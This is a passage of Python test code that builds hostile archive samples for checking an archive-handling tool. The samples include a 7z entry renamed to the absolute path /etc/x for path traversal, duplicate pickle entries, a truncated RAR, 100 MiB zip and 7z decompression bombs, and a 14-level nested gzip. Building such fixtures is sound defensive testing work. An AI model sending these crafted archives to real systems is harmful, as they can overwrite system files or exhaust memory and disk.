        "root.7z": changed_7z({"aetc/x": b"x"}, "aetc/x".encode("utf-16-le"), "/etc/x".encode("utf-16-le")),
        "twice.7z": changed_7z({"a.pkl": b"x", "b.pkl": b"y"}, "a.pkl".encode("utf-16-le"), "b.pkl".encode("utf-16-le")),
        "closed.rar": b"Rar!\x1a\x07\x01\x00" + bytes(40),
        "bomb.7z": sevenzipped({"zeros": bytes(100 << 20)}),
        "bomb.zip": zipped({"zeros": bytes(100 << 20)}, zipfile.ZIP_DEFLATED),
        "nested.gz": _nested(14),
    }.items():
        yield HostileFile("archives", word, made)


def _nested(depth: int) -> bytes:
    data = b"x"
    for _ in range(depth):
        data = gzip.compress(data)
    return data
